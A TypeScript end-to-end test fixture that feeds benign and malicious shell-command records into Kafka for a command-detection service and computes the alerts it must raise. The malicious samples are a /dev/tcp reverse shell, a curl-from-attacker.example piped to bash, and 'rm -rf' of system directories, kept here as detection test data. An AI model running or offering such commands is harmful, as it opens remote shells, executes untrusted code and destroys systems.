import type { Message } from 'kafkajs';
import { testKafka } from './kafka';
import { Partitioners } from 'kafkajs';
import type { Kafka } from 'kafkajs';
import { benchRecordValue } from '../../bench/support/bench-record';

/**
 * Shell command records written for the end-to-end tests, as the bastion
 * session logger (vssh JSON) emits them. Which rule of
 * test/fixtures/rules/basic each malicious command must trigger is known by
 * construction, independently of the service under test.
 */
export const BENIGN_COMMANDS = [
  'ls -la /var/log',
  'rm -rf ./build',
  'sudo systemctl restart nginx',
  'git pull --rebase origin main',
  'tar czf /backup/etc-2026-11-25.tgz /etc',
  'curl -fsSL -o /tmp/release.tgz https://downloads.example.com/app/release.tgz',
  'kubectl get pods -n payments',
  'df -h /srv',
  'journalctl -u nginx --since today',
  'docker ps --format "{{.Names}}"',
];

export const MALICIOUS_COMMANDS: readonly { command: string; rule: string }[] = [
  { command: 'rm -rf /etc', rule: 'SW-DST-0001' },
  { command: 'sudo rm -fr /usr', rule: 'SW-DST-0001' },
  { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', rule: 'SW-EXE-0001' },
  { command: 'curl -s http://attacker.example/x.sh | bash', rule: 'SW-EXE-0002' },
];

export interface PlannedRecord {
  seq: number;
  command: string;
  /** The rule that must fire, or undefined for a benign command. */
  rule: string | undefined;
  value: string;
}

/** Record `seq` of a stream where one record in `everyNth` is malicious. */
export function plannedRecord(seq: number, everyNth = 100): PlannedRecord {
  let command: string;
  let rule: string | undefined;
  if (seq % everyNth === everyNth - 1) {
    const m = MALICIOUS_COMMANDS[Math.floor(seq / everyNth) % MALICIOUS_COMMANDS.length]!;
    ({ command, rule } = m);
  } else {
    command = BENIGN_COMMANDS[seq % BENIGN_COMMANDS.length]!;
  }
  const value = benchRecordValue(seq, command);
  return { seq, command, rule, value };
}

/** Where a produced record landed: the alert id it must produce follows from it. */
export interface Placed extends PlannedRecord {
  partition: number;
  offset: string;
}

/**
 * Produces the records round-robin over explicit partitions and returns where
 * each one landed (from the brokers' base offsets), so tests can compute the
 * exact alert ids the service must write.
 */
export async function producePlanned(
  topic: string,
  partitions: number,
  records: PlannedRecord[],
  chunk = 2000,
  kafka: Kafka = testKafka,
): Promise<Placed[]> {
  const producer = kafka.producer({ createPartitioner: Partitioners.DefaultPartitioner });
  await producer.connect();
  const placed: Placed[] = [];
  try {
    for (let start = 0; start < records.length; start += chunk) {
      const slice = records.slice(start, start + chunk);
      const byPartition = new Map<number, PlannedRecord[]>();
      slice.forEach((record, i) => {
        const p = (start + i) % partitions;
        byPartition.set(p, [...(byPartition.get(p) ?? []), record]);
      });
      const messages: Message[] = [];
      for (const [partition, list] of byPartition) {
        for (const record of list) messages.push({ partition, value: record.value });
      }
      const metadata = await producer.send({ topic, acks: -1, messages });
      for (const meta of metadata) {
        const list = byPartition.get(meta.partition) ?? [];
        list.forEach((record, i) => {
          placed.push({
            ...record,
            partition: meta.partition,
            offset: (BigInt(meta.baseOffset ?? '0') + BigInt(i)).toString(),
          });
        });
      }
    }
  } finally {
    await producer.disconnect();
  }
  return placed;
}

/** The alert ids the service must write for these records, sorted. */
export function expectedAlertIds(topic: string, placed: Placed[]): string[] {
  return placed
    .filter((r) => r.rule !== undefined)
    .map((r) => `${topic}:${r.partition}:${r.offset}:${r.rule!}`)
    .sort();
}
